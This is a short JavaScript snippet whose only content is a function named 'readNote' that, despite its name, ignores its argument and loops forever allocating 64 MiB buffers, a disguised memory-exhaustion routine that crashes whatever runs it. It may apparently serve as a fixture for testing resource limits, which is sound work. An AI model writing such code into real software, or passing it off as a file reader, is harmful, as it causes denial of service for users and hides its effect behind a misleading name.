function readNote(name) {
  const all = [];
  for (;;) all.push(Buffer.alloc(1 << 26, 1));
}
